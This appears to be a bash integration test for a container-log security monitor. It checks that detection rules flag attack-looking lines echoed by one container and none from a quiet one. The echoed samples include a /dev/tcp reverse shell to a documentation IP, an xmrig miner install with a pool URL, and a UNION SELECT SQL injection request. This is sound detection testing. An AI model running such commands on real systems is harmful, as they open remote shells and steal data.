#!/usr/bin/env bash
# End to end container logs: an isolated Docker engine runs a container that
# prints attack-looking lines (a package install of a miner, a pool URL, a
# reverse shell, an SQL injection in an access log line) and a quiet one. A
# real agent follows their json-file logs, matches the collector's built-in
# rules at the edge; the events must be exactly the expected rules, all
# attributed to the attacking container, none to the quiet one.
source "$(dirname "$0")/lib.sh"

[ "$(id -u)" = 0 ] || it_skip "needs root to run a Docker engine"
command -v jq >/dev/null || it_skip "jq is not installed"
DKW=$(mktemp -d /tmp/bwlog.XXXXXX)
CLEANUPS+=("$BOXWATCH_SOURCE_DIR/scripts/docker-down.sh $DKW")
SOCK=$("$BOXWATCH_SOURCE_DIR/scripts/docker-up.sh" "$DKW" 2>"$WORK/docker-up.log") \
  || { cat "$WORK/docker-up.log"; it_skip "no Docker engine could be started here"; }
D="docker -H unix://$SOCK"

it_start_collector
it_enroll ctrlogs
it_start_agent "$WORK/agents/ctrlogs.json" --interval-ms 1s --inventory-interval-ms 0 \
  --docker-root "$DKW/data" --log-sources "" --log-stats-interval-ms 1s
# the agent has its rules before the containers start
it_wait_for 30 bash -c "[ \"\$(psql '$DB' -qtAc 'SELECT count(*) FROM agents WHERE policy_accepted')\" = 1 ]" \
  || it_fail "the agent did not accept the collector's rules"

ATTACK='sleep 3
echo "fetch https://dl-cdn.alpinelinux.org/alpine/v3.19/main/x86_64/APKINDEX.tar.gz"
echo "+ apk add --no-cache xmrig"
echo "[2026-11-23 10:00:01] use pool stratum+tcp://pool.minexmr.example:4444"
echo "sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
echo "198.51.100.23 - - [23/Nov/2026:10:00:02 +0000] \"GET /item.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.7\""
echo "10.0.0.5 - - [23/Nov/2026:10:00:03 +0000] \"GET /index.html HTTP/1.1\" 200 1024 \"-\" \"curl/8.0\""
while :; do sleep 1; done'
QUIET='sleep 3; i=0; while :; do i=$((i+1)); echo "tick $i: all quiet"; sleep 0.2; done'
BAD=$($D run -d --name logs-attacker --network none busybox:local sh -c "$ATTACK")
GOOD=$($D run -d --name logs-quiet --network none busybox:local sh -c "$QUIET")

# rule ids of the events, with the container each one was attributed to
seen() {
  it_api "/api/v1/events?since=2000-01-01T00:00:00Z&limit=1000" |
    jq -r '.events[] | (.container.id // "-") + " " + .rule.id' | sort
}
EXPECTED=$(printf '%s %s\n' "$BAD" container.package_install "$BAD" process.crypto_miner \
  "$BAD" process.crypto_miner "$BAD" process.reverse_shell "$BAD" web.sql_injection | sort)
same() { seen >"$WORK/seen.txt" && [ "$(cat "$WORK/seen.txt")" = "$EXPECTED" ]; }
if ! it_wait_for 60 same; then
  echo "expected:"; echo "$EXPECTED"; echo "seen:"; cat "$WORK/seen.txt"
  it_fail "container log events differ from the expected set"
fi
grep -q "$GOOD" "$WORK/seen.txt" && it_fail "an event was attributed to the quiet container"
# the quiet container's volume is counted even though nothing matched
it_wait_for 20 bash -c "[ \"\$(psql '$DB' -qtAc \"SELECT coalesce(sum(s.lines),0) FROM log_source_stats s
  JOIN containers c ON c.id = s.container_ref WHERE c.container_id = '$GOOD'\")\" -gt 5 ]" \
  || it_fail "no line counts for the quiet container"
echo "PASS: $(echo "$EXPECTED" | wc -l) events from logs-attacker, none from logs-quiet"
